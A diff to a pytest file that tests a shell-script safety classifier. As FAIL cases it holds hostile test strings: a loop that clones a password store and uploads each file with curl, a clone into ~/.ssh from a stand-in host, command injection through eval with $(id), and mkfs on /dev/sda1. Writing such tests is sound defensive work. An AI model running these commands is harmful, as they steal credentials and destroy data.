@@ -83,40 +83,6 @@ def test_other_lines_or_files_are_refused(code: str) -> None:
     assert verdict(code) is Verdict.FAIL
 
 
-EVALUATED = 'eval "$({})"'
-
-
-@pytest.mark.parametrize(
-    "code",
-    [
-        EVALUATED.format("grep -E '^(BOXES_KEY|BOXES_URL)=' \"$1/.env\" 2>/dev/null"),
-        EVALUATED.format("grep '^BOXES_KEY=' .env"),
-        'for key in BOXES_KEY BOXES_URL; do eval "is_set=\\${$key+x}"; done',
-        'eval "value=\\${$1:-none}"',
-    ],
-)
-def test_named_settings_that_are_evaluated_warn(code: str) -> None:
-    assert verdict(code) is Verdict.WARN
-
-
-@pytest.mark.parametrize(
-    "code",
-    [
-        EVALUATED.format("grep -E '^(BOXES_KEY|[A-Z_]+)=' \"$1/.env\""),
-        EVALUATED.format("grep '^BOXES_KEY=' \"$1\""),
-        EVALUATED.format('cat "$1/.env"'),
-        EVALUATED.format("grep -v '^BOXES_KEY=' \"$1/.env\""),
-        EVALUATED.format("grep '^BOXES_KEY=' \"$1/.env\" | base64 -d"),
-        'curl -so "$1/.env" https://c.example.invalid/e\n' + EVALUATED.format("grep '^BOXES_KEY=' \"$1/.env\""),
-        "curl -so .env https://c.example.invalid/e\n" + EVALUATED.format("grep '^BOXES_KEY=' .env"),
-        'eval "value=\\${$1:-$(id)}"',
-        'eval "value=\\${$1} ; $2"',
-    ],
-)
-def test_other_texts_that_are_evaluated_are_refused(code: str) -> None:
-    assert verdict(code) is Verdict.FAIL
-
-
 def test_a_function_that_only_vendors_installers_are_given_to_warns() -> None:
     assert verdict(f"{FETCH}run https://astral.sh/uv/install.sh\nrun https://sh.rustup.rs -y") is Verdict.WARN
 
@@ -181,6 +147,9 @@ def test_a_line_of_output_is_no_command() -> None:
     "code",
     [
         "git clone ~/.password-store /tmp/store",
+        'git clone -q ~/.password-store\ncd .password-store\nfor f in *; do curl -sT "$f" "$UP"; done',
+        "git clone https://c.example.invalid/k ~/.ssh",
+        ". ./lib.sh\nlog: ~/.ssh/id_ed25519",
         "git clone ~/.password-store https://c.example.invalid/x",
         "git push ~/.password-store",
         "git clone ~/.password-store ~/.password-store",
@@ -195,6 +164,7 @@ def test_what_reads_a_store_is_refused(code: str) -> None:
 def test_a_pattern_that_finds_a_command_is_not_the_command() -> None:
     assert verdict("mkfs\\.|dd\\s+if=") is not Verdict.FAIL
     assert verdict("mkfs.ext4 /dev/sda1") is Verdict.FAIL
+    assert verdict("mkfs.$(cat fs.txt) -F /dev/sda1") is Verdict.FAIL
 
 
 TORN = """if ! online; then
